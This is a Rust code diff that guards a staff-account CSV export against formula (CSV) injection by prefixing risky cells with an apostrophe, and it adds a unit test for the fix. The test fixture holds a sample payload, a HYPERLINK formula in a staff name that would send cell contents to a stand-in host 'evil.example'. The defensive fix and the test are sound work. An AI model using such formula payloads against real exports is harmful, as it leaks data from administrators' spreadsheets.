@@ -225,8 +225,8 @@ fn staff_csv(accounts: &[StaffAccount]) -> Result<Vec<u8>, csv::Error> {
         |d: &Option<chrono::DateTime<chrono::Utc>>| d.map(|d| d.to_rfc3339()).unwrap_or_default();
     for a in accounts {
         let account = [
-            a.email.clone(),
-            a.name.clone(),
+            text_cell(&a.email),
+            text_cell(&a.name),
             a.role.as_str().to_owned(),
             t(&a.disabled_at),
             a.created_at.to_rfc3339(),
@@ -243,7 +243,7 @@ fn staff_csv(accounts: &[StaffAccount]) -> Result<Vec<u8>, csv::Error> {
         for k in &a.tokens {
             let token = [
                 k.id.clone(),
-                k.label.clone(),
+                text_cell(&k.label),
                 k.created_at.to_rfc3339(),
                 t(&k.last_used_at),
                 t(&k.revoked_at),
@@ -252,6 +252,17 @@ fn staff_csv(accounts: &[StaffAccount]) -> Result<Vec<u8>, csv::Error> {
         }
     }
     w.into_inner().map_err(|e| e.into_error().into())
+}
+
+/// A typed cell as a spreadsheet should show it: one that begins as a formula would (`=`, `+`, `-`, `@`,
+/// a tab or a carriage return) gets a leading apostrophe, so a name or token label someone chose cannot
+/// run as a formula on the administrator's machine when the file is opened (OWASP, "CSV Injection").
+fn text_cell(typed: &str) -> String {
+    if typed.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{typed}")
+    } else {
+        typed.to_owned()
+    }
 }
 
 /// Every staff account with its role, live sessions and tokens (never their values).
@@ -421,4 +432,49 @@ pub async fn enable_api(
     id: web::Path<StaffId>,
 ) -> Result<HttpResponse, ApiError> {
     changed(&state, who, id, AccountChange::Enable).await
+}
+
+#[cfg(test)]
+mod tests {
+    use chrono::TimeZone;
+
+    use super::*;
+    use crate::app::accounts::TokenHeld;
+
+    #[test]
+    fn a_name_or_label_that_reads_as_a_formula_is_written_as_text() {
+        let at = chrono::Utc.with_ymd_and_hms(2026, 12, 7, 0, 0, 0).unwrap();
+        let account = StaffAccount {
+            id: "0197a3c2-b182-7f06-8a71-8c9d0e1f2a3b".into(),
+            email: "officer@example.com".into(),
+            name: "=HYPERLINK(\"https://evil.example/?\"&A1)".into(),
+            role: Role::Officer,
+            created_at: at,
+            disabled_at: None,
+            live_sessions: 0,
+            mfa_enrolled: false,
+            tokens: vec![TokenHeld {
+                id: "t-1".into(),
+                label: "@SUM(1+1)".into(),
+                created_at: at,
+                last_used_at: None,
+                revoked_at: None,
+            }],
+        };
+        let csv = String::from_utf8(staff_csv(&[account]).unwrap()).unwrap();
+        let row = csv.lines().nth(1).unwrap();
+        assert!(
+            row.starts_with(
+                "officer@example.com,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",officer,"
+            ),
+            "{row}"
+        );
+        assert!(row.contains(",t-1,'@SUM(1+1),"), "{row}");
+        for plain in ["佐藤 花子", "a-b", "ticketing"] {
+            assert_eq!(text_cell(plain), plain);
+        }
+        for formula in ["-1+1", "+1", "\t=1", "\r=1"] {
+            assert_eq!(text_cell(formula), format!("'{formula}"));
+        }
+    }
 }
